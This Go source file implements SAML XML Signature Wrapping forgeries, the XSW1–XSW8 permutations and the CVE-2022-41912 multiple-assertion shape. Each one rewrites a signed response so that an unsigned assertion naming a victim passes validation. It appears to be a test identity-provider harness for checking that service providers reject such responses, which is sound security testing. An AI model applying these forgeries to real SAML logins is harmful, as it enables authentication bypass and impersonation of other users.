package samlidp

import (
	"fmt"

	"github.com/beevik/etree"
)

// Signature wrapping, after CompassSecurity/SAMLRaider XSWHelpers.java
// (applyXSW1..8) and crewjam's TestXswPermutation*IsRejected. Each works on
// the signed document; "evil" means NameID and email set to the victim.

const (
	evilResponseID  = "_evil_response_"
	evilAssertionID = "_evil_assertion_"
)

func parts(d *Draft) (resp, assertion *etree.Element, err error) {
	resp = d.Doc.Root()
	if resp == nil {
		return nil, nil, fmt.Errorf("empty document")
	}
	assertion = resp.SelectElement("Assertion")
	if assertion == nil {
		return nil, nil, fmt.Errorf("response has no assertion")
	}
	return resp, assertion, nil
}

// unsignedCopy is el without its own Signature.
func unsignedCopy(el *etree.Element) *etree.Element {
	c := el.Copy()
	removeSignatures(c)
	return c
}

func xsw1(d *Draft) error { return xswResponse(d, true) }
func xsw2(d *Draft) error { return xswResponse(d, false) }

// xswResponse clones the signed response (minus Signature) into the
// Signature (XSW1) or before it (XSW2), then makes the outer response evil.
func xswResponse(d *Draft, inside bool) error {
	resp, a, err := parts(d)
	if err != nil {
		return err
	}
	sig := resp.SelectElement("Signature")
	if sig == nil {
		return fmt.Errorf("response is not signed")
	}
	clone := unsignedCopy(resp)
	if inside {
		sig.AddChild(clone)
	} else {
		resp.InsertChildAt(sig.Index(), clone)
	}
	resp.CreateAttr("ID", evilResponseID+d.Response.ID)
	victimElement(d, a)
	return nil
}

func xsw3(d *Draft) error {
	resp, a, err := parts(d)
	if err != nil {
		return err
	}
	evil := unsignedCopy(a)
	evil.CreateAttr("ID", evilAssertionID+d.Assertion.ID)
	victimElement(d, evil)
	resp.InsertChildAt(a.Index(), evil)
	return nil
}

func xsw4(d *Draft) error {
	resp, a, err := parts(d)
	if err != nil {
		return err
	}
	evil := unsignedCopy(a)
	evil.CreateAttr("ID", evilAssertionID+d.Assertion.ID)
	victimElement(d, evil)
	resp.RemoveChild(a)
	evil.AddChild(a)
	resp.AddChild(evil)
	return nil
}

func xsw5(d *Draft) error { return xswInPlace(d, false) }
func xsw6(d *Draft) error { return xswInPlace(d, true) }

// xswInPlace makes the signed assertion evil under a new ID, keeping its
// Signature, and hides a clean copy after it (XSW5) or inside the
// Signature (XSW6).
func xswInPlace(d *Draft, inSignature bool) error {
	resp, a, err := parts(d)
	if err != nil {
		return err
	}
	clean := unsignedCopy(a)
	a.CreateAttr("ID", evilAssertionID+d.Assertion.ID)
	victimElement(d, a)
	if inSignature {
		sig := a.SelectElement("Signature")
		if sig == nil {
			return fmt.Errorf("assertion is not signed")
		}
		sig.AddChild(clean)
	} else {
		resp.AddChild(clean)
	}
	return nil
}

func xsw7(d *Draft) error {
	resp, a, err := parts(d)
	if err != nil {
		return err
	}
	ext := etree.NewElement("samlp:Extensions")
	evil := unsignedCopy(a)
	victimElement(d, evil)
	ext.AddChild(evil)
	resp.InsertChildAt(a.Index(), ext)
	return nil
}

func xsw8(d *Draft) error {
	_, a, err := parts(d)
	if err != nil {
		return err
	}
	sig := a.SelectElement("Signature")
	if sig == nil {
		return fmt.Errorf("assertion is not signed")
	}
	clean := unsignedCopy(a)
	victimElement(d, a)
	obj := sig.CreateElement("ds:Object")
	obj.AddChild(clean)
	return nil
}

// xswMultiple is the CVE-2022-41912 shape: an unsigned evil copy with ID
// "<id>_attack" after the signed assertion.
func xswMultiple(d *Draft) error {
	resp, a, err := parts(d)
	if err != nil {
		return err
	}
	evil := unsignedCopy(a)
	evil.CreateAttr("ID", a.SelectAttrValue("ID", "")+"_attack")
	victimElement(d, evil)
	resp.AddChild(evil)
	return nil
}
